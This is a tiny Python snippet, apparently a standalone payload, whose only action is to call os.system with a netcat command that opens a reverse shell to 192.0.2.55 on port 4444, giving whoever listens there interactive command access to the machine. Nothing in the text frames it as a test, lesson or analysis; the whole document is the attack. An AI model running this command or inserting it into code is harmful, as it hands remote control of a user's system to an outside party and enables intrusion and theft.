import os
os.system("nc -e /bin/sh 192.0.2.55 4444")
